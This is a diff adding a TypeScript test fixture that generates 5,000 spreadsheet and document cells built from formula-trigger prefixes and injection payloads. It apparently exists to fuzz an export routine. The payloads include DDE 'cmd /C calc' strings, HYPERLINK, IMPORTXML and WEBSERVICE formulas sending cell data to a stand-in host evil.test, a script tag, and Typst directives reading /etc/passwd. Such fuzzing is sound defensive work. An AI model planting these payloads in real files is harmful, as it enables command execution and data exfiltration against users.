@@ -1,0 +1,55 @@
+import { randomOf } from './random.ts'
+
+const BEGINNINGS = [
+  '=',
+  '+',
+  '-',
+  '@',
+  '\t',
+  '\r',
+  '\n',
+  '＝',
+  '＋',
+  '－',
+  '＠',
+  ' =',
+  '\u00a0=',
+  "'=",
+  '"=',
+  ';=',
+  ',=',
+  '\ufeff=',
+  '\t\r=',
+  '%=',
+  '|',
+  '0=',
+  '',
+]
+const ORDERS = [
+  "cmd|' /C calc'!A0",
+  'HYPERLINK("https://evil.test/?"&A1,"ver")',
+  'IMPORTXML(CONCAT("https://evil.test/",A1),"//a")',
+  'WEBSERVICE("https://evil.test/")',
+  'SUM(1+1)*cmd|x',
+  'DDE("cmd";"/C calc";"x")',
+  '1+1',
+  '2026-01-01',
+  '1e5',
+  'A1',
+  '"a";"b"',
+  '<script>alert(1)</script>',
+  '#import "evil.typ"',
+  '#read("/etc/passwd")',
+  '#link("https://evil.test")[x]',
+  '$x$ \\ *a* _b_ `c` @d <e>',
+  '\u202e\u2066رقم',
+  '👩‍👩‍👧‍👦 e\u0301'.repeat(5),
+  '_x0041_ _x000D_',
+  ']]>&amp;<a/>&#0;',
+]
+const random = randomOf(5)
+/** 5,000 texts that somebody wrote in the hope that a program runs them. */
+export const CELLS: readonly string[] = Array.from(
+  { length: 5_000 },
+  (_, at) => `${BEGINNINGS[at % BEGINNINGS.length]}${random.pick(ORDERS)}${at}`,
+)
